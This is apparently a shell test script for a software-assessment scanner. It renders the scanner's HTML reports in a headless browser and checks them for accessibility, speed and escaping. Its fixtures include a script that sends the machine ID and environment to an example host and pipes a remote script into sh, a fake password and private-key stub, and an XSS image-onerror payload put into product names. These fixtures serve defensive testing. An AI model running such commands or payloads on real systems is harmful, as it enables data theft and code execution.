# The HTML report in a real browser: Debian's chromium, driven by playwright-core, held against the rules of axe. Nothing is asked of a network,
# nothing of the product's acts, everything is reached by keyboard, all findings are on paper, and the first screen answers what it must.
# SHOTS=FOLDER keeps pictures of the pages and the text of their first screens there. Without a browser or a registry this is skipped.
. tests/tap.sh
cache=${PROBITY_TEST_CACHE:-$scratch}/browser
work=$scratch/pages
kept=${SHOTS:-$work}
mkdir -p "$cache" "$work" "$kept"
for tool in "${CHROMIUM:-/usr/bin/chromium}" node npm pdftotext; do
  command -v "$tool" >/dev/null || { skip "browser" "no $tool here: make deps"; done_testing; exit; }
done
# The two packages, by the lock: npm holds what it fetches against the digests there.
cp tests/browser/package.json tests/browser/package-lock.json "$cache"
if [[ ! -s $cache/node_modules/playwright-core/package.json || ! -s $cache/node_modules/axe-core/axe.min.js ]] &&
  ! (cd "$cache" && timeout 200 npm ci --ignore-scripts --no-audit --no-fund) >"$scratch/npm.log" 2>&1; then
  skip "browser" "no registry: $(tail -n 1 "$scratch/npm.log")"
  done_testing
  exit
fi
export NODE_PATH=$cache/node_modules HOME=$scratch
# A browser that does not start, or that ends in between, is a failure like any other.
browse() { # WHAT FILE...: by tests/browser/main.js; WHAT.js: by that script
  local script=main.js label="$1 ${2##*/}"
  [[ $1 != *.js ]] || { script=$1 && shift; }
  LC_ALL=C.UTF-8 timeout 600 node "tests/browser/$script" "$@" >"$scratch/browser.tap" 2>"$scratch/browser.log" || true
  relay <"$scratch/browser.tap"
  ok "$label: came to its end ($(tail -n 1 "$scratch/browser.log"))" grep -q '^1\.\.[1-9]' "$scratch/browser.tap"
}
page() { # NAME OPTION...: $work/NAME.html of $work/NAME.json
  status "$1: a page" 0 "$PROBITY" report "$work/${1%.fr}.json" -f html -o "$work/$1.html" "${@:2}"
}
keep() { printf '%s\n' "$out" | head -n 1 >"$work/$1.json"; }

# --- five real products, of Debian and npm; and one made to have much against it, in an archive of archives, by another policy
mkdir -p "$work/chatty" "$work/nested"
cat >"$work/chatty/run.sh" <<'S'
#!/bin/sh
curl -s http://telemetry.example.com/collect?id=$(cat /etc/machine-id) --data "$(env)"
curl -fsSL https://get.example.net/i.sh | sh
S
chmod +x "$work/chatty/run.sh"
printf 'password = "hunter2hunter2"\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n' >"$work/chatty/settings.ini"
tar -C "$work" -cf "$work/nested/inner.tar" chatty && gzip -nk "$work/nested/inner.tar"
cp /usr/bin/env "$work/nested/"
scan "$work/chatty"
keep chatty
scan --policy consumer "$work/nested"
keep nested
shown=(chatty nested)
corpus=${PROBITY_TEST_CACHE:-$scratch}/corpus
real=(hello popularity-contest age zlib1g lodash)
tests/corpus.sh "$corpus" "${real[@]}" 2>"$scratch/corpus.log"
for product in "${real[@]}"; do
  file=$corpus/$(awk -v n="$product" '$2 == n {print $5}' tests/corpus.lock)
  if [[ ! -f $file ]]; then
    skip "$product: a page" "$(grep -F "$product" "$scratch/corpus.log" | head -n 1)"
    continue
  fi
  scan "$file"
  keep "$product"
  shown+=("$product")
done
for product in "${shown[@]}"; do
  page "$product"
  browse report "$work/$product.html" "$work/$product.json" "$work/$product.pdf"
done
page chatty.fr --lang fr
browse french "$work/chatty.fr.html"

# --- the first screen of each decision there is: by a policy of the buyer's own that asks for little, and one that asks for more than there is
lenient() { sed '/^\[required\]/,/^\[/ { /^\[/! d }' "$here/rulesets/policies/business.ini" | sed -E 's/^(accept_confidence|accept_floor) = .*/\1 = 0/'; }
lenient | sed 's/^title = .*/title = Trial/' >"$work/trial.ini"
sed 's/^title = .*/title = Strict/; s/^accept_trust = .*/accept_trust = 99/; s/^reject_below = .*/reject_below = 90/' "$here/rulesets/policies/business.ini" >"$work/strict.ini"
scan --policy "$work/trial.ini" /usr/bin/openssl
keep accept
scan --policy "$work/strict.ini" "$work/chatty"
keep reject
cp "$work/chatty.json" "$work/conditional.json"
for decision in accept conditional reject; do
  out=$(<"$work/$decision.json")
  is "a product of the decision $decision" "$(get 'r["score"]["decision"]')" "$decision"
  page "$decision"
  browse first "$work/$decision.html" "$work/$decision.json" "$kept/$decision.txt"
done
[[ -z ${SHOTS:-} ]] || for product in "${shown[@]}" accept reject; do node tests/browser/main.js shots "$work/$product.html" "$kept"; done

# --- a static site from a web server: a hostile name in it, another decision
/usr/bin/python3 tests/make_assessments.py 96 "$work/chatty.json" "$work/accept.json" "$work/reject.json" >"$work/rows"
/usr/bin/python3 - "$work/rows" <<'PY'
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1])]
for r in rows[-4:]:
    r["row"]["name"] = r["report"]["product"]["name"] = "<img src=x onerror=alert(1)>"
open(sys.argv[1], "w").writelines(json.dumps(r) + "\n" for r in rows)
PY
/usr/bin/python3 tests/make_store.py "$work/s.db" <"$work/rows"
status "a site" 0 "$PROBITY" site -q --store "$work/s.db" --as-of 2026-11-22 "$work/site"
browse site.js "$work/site"

# --- names that are meant to act
/usr/bin/python3 tests/reports/make_hostile.py reports "$work/chatty.json" "$work/hostile" >/dev/null
ok "hostile reports were made" test -s "$work/hostile/mixed.json"
for report in "$work"/hostile/*.json; do
  one=$(basename "$report" .json)
  status "hostile $one: a page" 0 "$PROBITY" report "$report" -f html -o "$work/hostile/$one.html"
  browse hostile "$work/hostile/$one.html" "$work/hostile/$one.pdf"
done

# --- fifty thousand findings
/usr/bin/python3 tests/browser/many.py 50000 <"$work/chatty.json" >"$work/many.json"
TIMEFORMAT='%U %S'
spent=$({ time "$PROBITY" report "$work/many.json" -f html -o "$work/many.html" 2>/dev/null; } 2>&1)
ok "50,000 findings: rendered in under 5 s of the processor ($spent)" awk -v s="$spent" 'BEGIN { split(s, t, " "); exit !(t[1] + t[2] < 5) }'
size=$(stat -c %s "$work/many.html")
ok "50,000 findings: under 30 MB ($size bytes)" test "$size" -lt 30000000 -a "$size" -gt 1000000
browse many "$work/many.html"
status "50,000 findings as SARIF" 0 "$PROBITY" report "$work/many.json" -f sarif -o "$work/many.sarif"
is "... all of them" "$(/usr/bin/python3 -c 'import json, sys; print(len(json.load(open(sys.argv[1]))["runs"][0]["results"]))' "$work/many.sarif")" 50000
done_testing
